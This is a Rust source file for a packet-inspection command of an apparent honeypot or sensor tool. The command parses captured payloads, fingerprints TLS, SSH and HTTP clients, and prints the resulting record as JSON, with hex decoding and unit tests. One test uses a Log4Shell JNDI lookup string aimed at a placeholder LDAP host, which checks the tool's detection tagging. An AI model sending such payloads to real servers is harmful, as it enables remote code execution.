//! `spip-agent inspect`: run the parsers and fingerprints over a captured client payload and
//! print, as one JSON line, the record fields it would produce, at their record paths.
//!
//! The payload is taken as one turn of the responder its first bytes choose (as a client that
//! speaks first would get) and goes through the same parse and record fields as a live turn,
//! so the output matches what a record would carry (minus connection facts: addresses, times,
//! ids).

use crate::json::JsonWriter;
use crate::protocols::{Active, Context, Detected, Responder, Settings, TurnFields, Visitor};
use std::fmt;
use std::io::Read;

/// Writes one JSON line (with a trailing `\n`) of the record fields `payload` yields.
pub fn inspect(payload: &[u8], out: &mut Vec<u8>) {
    let settings = Settings::default();
    let unspecified = std::net::SocketAddr::from(([0, 0, 0, 0], 0));
    let ctx = Context {
        client: unspecified,
        server: unspecified,
        settings: &settings,
        random: 0,
        // Only the fields matter here, never a reply's time.
        now: std::time::UNIX_EPOCH,
    };
    let mut responder = match Active::detect(payload, &ctx, false) {
        Detected::Found(r) => r,
        // A KEXINIT packet alone (an SSH connection's later turn) still yields the HASSH.
        _ if crate::fingerprint::ssh_client(payload).is_some_and(|c| c.hassh.is_some()) => {
            Active::by_name("ssh", &ctx).unwrap_or_else(Active::raw)
        }
        Detected::Undecided | Detected::Nothing => Active::raw(),
    };
    responder.visit(WriteFields { payload, out });
    out.push(b'\n');
}

/// Parses the payload as one turn of the chosen responder and writes its fields.
struct WriteFields<'a> {
    payload: &'a [u8],
    out: &'a mut Vec<u8>,
}

impl Visitor for WriteFields<'_> {
    type Out = ();
    fn visit<R: Responder>(self, r: &mut R) {
        let view = r.parse(self.payload);
        let mut w = JsonWriter::new(self.out);
        w.begin();
        w.begin_object("event");
        if view.summary() {
            w.str("summary", self.payload);
        }
        w.hex("original_payload_hex", self.payload);
        w.end_object();
        if let Some(p) = view.protocol() {
            w.begin_object("network");
            w.str("protocol", p.as_bytes());
            w.end_object();
        }
        crate::scan::payload_tags::write_tags(&mut w, self.payload);
        view.write_ecs(&mut w);
        w.begin_object("spip");
        view.write_spip(&mut w);
        w.end_object();
        w.finish();
    }
}

/// A hex string that is not valid.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HexError {
    /// A character that is neither a hex digit nor whitespace, at this byte offset.
    BadChar { offset: usize, ch: char },
    /// An odd number of hex digits.
    OddLength { digits: usize },
}

impl fmt::Display for HexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HexError::BadChar { offset, ch } => {
                write!(
                    f,
                    "invalid hex: {ch:?} at offset {offset} is not a hex digit"
                )
            }
            HexError::OddLength { digits } => {
                write!(f, "invalid hex: odd number of hex digits ({digits})")
            }
        }
    }
}

impl std::error::Error for HexError {}

/// Decodes hex (either case; ASCII whitespace ignored; an optional leading `0x`).
pub fn decode_hex(text: &str) -> Result<Vec<u8>, HexError> {
    let trimmed = text.trim_start();
    let skip = text.len() - trimmed.len();
    let (body, skip) = match trimmed.strip_prefix("0x") {
        Some(rest) => (rest, skip + 2),
        None => (trimmed, skip),
    };
    let mut out = Vec::with_capacity(body.len() / 2);
    let mut hi: Option<u8> = None;
    let mut digits = 0usize;
    for (i, ch) in body.char_indices() {
        if ch.is_ascii_whitespace() {
            continue;
        }
        let Some(d) = ch.to_digit(16) else {
            return Err(HexError::BadChar {
                offset: skip + i,
                ch,
            });
        };
        digits += 1;
        let d = d as u8;
        match hi.take() {
            None => hi = Some(d),
            Some(h) => out.push(h << 4 | d),
        }
    }
    if hi.is_some() {
        return Err(HexError::OddLength { digits });
    }
    Ok(out)
}

/// Where `inspect` reads its payload from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    /// `--hex HEX`
    Hex(String),
    /// A file of raw bytes, or `-` for stdin.
    File(String),
}

/// Runs `inspect` for the CLI: reads the payload, prints one JSON line to stdout.
/// Returns the exit code: 0 ok, 1 read failure, 2 bad hex.
pub fn run(source: &Source) -> i32 {
    let payload = match source {
        Source::Hex(h) => match decode_hex(h) {
            Ok(p) => p,
            Err(e) => {
                eprintln!("spip-agent inspect: {e}");
                return 2;
            }
        },
        Source::File(path) if path == "-" => {
            let mut buf = Vec::new();
            if let Err(e) = std::io::stdin().read_to_end(&mut buf) {
                eprintln!("spip-agent inspect: reading stdin: {e}");
                return 1;
            }
            buf
        }
        Source::File(path) => match std::fs::read(path) {
            Ok(b) => b,
            Err(e) => {
                eprintln!("spip-agent inspect: reading {path}: {e}");
                return 1;
            }
        },
    };
    let mut out = Vec::new();
    inspect(&payload, &mut out);
    use std::io::Write;
    let mut stdout = std::io::stdout().lock();
    if stdout.write_all(&out).and_then(|_| stdout.flush()).is_err() {
        return 1;
    }
    0
}

#[cfg(test)]
mod tests {
    use super::*;

    fn json(payload: &[u8]) -> serde_json::Value {
        let mut out = Vec::new();
        inspect(payload, &mut out);
        assert_eq!(out.last(), Some(&b'\n'));
        assert_eq!(out.iter().filter(|&&b| b == b'\n').count(), 1);
        serde_json::from_slice(&out).unwrap()
    }

    #[test]
    fn payload_tags_as_in_records() {
        let v = json(b"GET /?x=${jndi:ldap://a/b} HTTP/1.1\r\nHost: a\r\n\r\n");
        assert_eq!(v["tags"], serde_json::json!(["log4shell"]));
    }

    #[test]
    fn hex_decoding() {
        assert_eq!(
            decode_hex("0x16 03 01\n00ff").unwrap(),
            vec![0x16, 3, 1, 0, 0xff]
        );
        assert_eq!(decode_hex("ABcd").unwrap(), vec![0xab, 0xcd]);
        assert_eq!(
            decode_hex("12z4"),
            Err(HexError::BadChar { offset: 2, ch: 'z' })
        );
        assert_eq!(decode_hex("123"), Err(HexError::OddLength { digits: 3 }));
        assert!(
            decode_hex("12z4")
                .unwrap_err()
                .to_string()
                .contains("offset 2")
        );
    }

    #[test]
    fn tls_payload() {
        // tls12.pcap Firefox hello from the project's vectors.
        let path = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/data/vectors/ja4_ja3_clienthello_vectors.json"
        );
        let text =
            std::fs::read_to_string(path).unwrap_or_else(|e| panic!("vector file {path}: {e}"));
        let v: serde_json::Value = serde_json::from_str(&text).unwrap();
        let row = &v["vectors"][0];
        let msg = decode_hex(row["client_hello_handshake_hex"].as_str().unwrap()).unwrap();
        let mut stream = vec![22, 3, 1];
        stream.extend_from_slice(&(msg.len() as u16).to_be_bytes());
        stream.extend_from_slice(&msg);
        let j = json(&stream);
        assert_eq!(j["network"]["protocol"], "tls");
        assert_eq!(j["tls"]["client"]["hash"]["ja4"], row["expected_ja4_spec"]);
        assert_eq!(j["tls"]["client"]["ja3"], row["ja3"]);
        assert_eq!(j["spip"]["tls"]["ja4_r"], row["ja4_r"]);
        assert_eq!(j["spip"]["tls"]["ja3_string"], row["ja3_string"]);
        assert!(j["tls"]["client"]["server_name"].is_string());
        assert_eq!(j["tls"]["client"]["supported_protocols"][0], "h2");
        assert!(j["event"]["original_payload_hex"].is_string());
    }

    #[test]
    fn ssh_payload() {
        let s = crate::proto::ssh::openssh_client_stream(b"curve25519-sha256,ext-info-c");
        let j = json(&s);
        assert_eq!(j["network"]["protocol"], "ssh");
        let algos = "curve25519-sha256,ext-info-c;aes128-ctr;hmac-sha2-256;none";
        assert_eq!(j["spip"]["ssh"]["hassh_algorithms"], algos);
        assert_eq!(j["spip"]["ssh"]["client_banner"], "SSH-2.0-OpenSSH_9.6");
        let md5 = {
            use md5::Digest;
            let d = md5::Md5::digest(algos.as_bytes());
            d.iter().map(|b| format!("{b:02x}")).collect::<String>()
        };
        assert_eq!(j["ssh"]["client"]["hash"]["hassh"], md5.as_str());
        // The KEXINIT packet alone (a later turn) also yields the HASSH.
        let banner_len = b"SSH-2.0-OpenSSH_9.6\r\n".len();
        let j = json(&s[banner_len..]);
        assert_eq!(j["ssh"]["client"]["hash"]["hassh"], md5.as_str());
        assert_eq!(j["network"]["protocol"], "ssh");
    }

    #[test]
    fn http_and_garbage() {
        let j = json(b"GET /x HTTP/1.1\r\nHost: a.example\r\nUser-Agent: t\r\n\r\n");
        assert_eq!(j["network"]["protocol"], "http");
        assert_eq!(j["url"]["path"], "/x");
        #[cfg(feature = "ja4plus")]
        assert!(
            j["http"]["request"]["hash"]["ja4h"]
                .as_str()
                .unwrap()
                .starts_with("ge11nn020000_")
        );
        let j = json(b"\x00\x01binary\xff");
        assert!(j.get("network").is_none());
        assert_eq!(j["event"]["original_payload_hex"], "000162696e617279ff");
    }
}
